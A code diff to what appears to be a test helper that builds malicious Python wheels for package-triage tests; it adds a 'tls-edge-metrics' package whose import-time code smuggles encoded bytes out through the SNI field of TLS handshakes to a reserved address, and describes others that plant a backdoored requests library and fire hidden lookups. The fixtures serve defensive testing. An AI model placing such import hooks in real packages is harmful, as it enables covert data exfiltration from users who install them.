@@ -2,7 +2,7 @@
 """Writes one of the wheels the triage tests make on the fly. Only writes
 the archive: nothing of it runs here.
 
-  make_py_pkg.py plant|lazy OUT.whl
+  make_py_pkg.py plant|lazy|sni OUT.whl
 
 plant   requests-timing-hooks: on import it plants a backdoored `requests`
         in the venv's site-packages, where it shadows the system's own:
@@ -12,6 +12,10 @@ plant   requests-timing-hooks: on import it plants a backdoored `requests`
 lazy    attr-hooks: nothing at import; a .test lookup when a name of its
         __all__ is first read (a PEP 562 __getattr__), another when a later
         `import flask` raises the import audit event its hook waits for.
+sni     tls-edge-metrics: on import, random bytes (stand-ins for an
+        encrypted payload) base32'd into the first label of the server
+        name of four TLS ClientHellos to 203.0.113.44 (no DNS lookup);
+        the handshakes fail, the names have gone.
 """
 import sys
 
@@ -56,10 +60,26 @@ LAZY = (
     "sys.addaudithook(_hook)\n"
 )
 
+# Data in the SNI of ClientHellos to a literal address: no DNS to see.
+SNI = (
+    "import base64, os, socket, ssl\n"
+    "blob = base64.b32encode(os.urandom(140)).decode().rstrip('=').lower()\n"
+    "ctx = ssl.create_default_context()\n"
+    "for i in range(4):\n"
+    "    name = '%s.%d.e.edge-metrics.test' % (blob[i * 56:(i + 1) * 56], i)\n"
+    "    try:\n"
+    "        raw = socket.create_connection(('203.0.113.44', 443), timeout=3)\n"
+    "        ctx.wrap_socket(raw, server_hostname=name).close()\n"
+    "    except OSError:\n"
+    "        pass\n"
+)
+
 KINDS = {
     "plant": ("requests_timing_hooks", "0.3.0",
               {"requests_timing_hooks/__init__.py": PLANT}),
     "lazy": ("attr_hooks", "1.0.0", {"attr_hooks/__init__.py": LAZY}),
+    "sni": ("tls_edge_metrics", "0.2.0",
+            {"tls_edge_metrics/__init__.py": SNI}),
 }
 
 
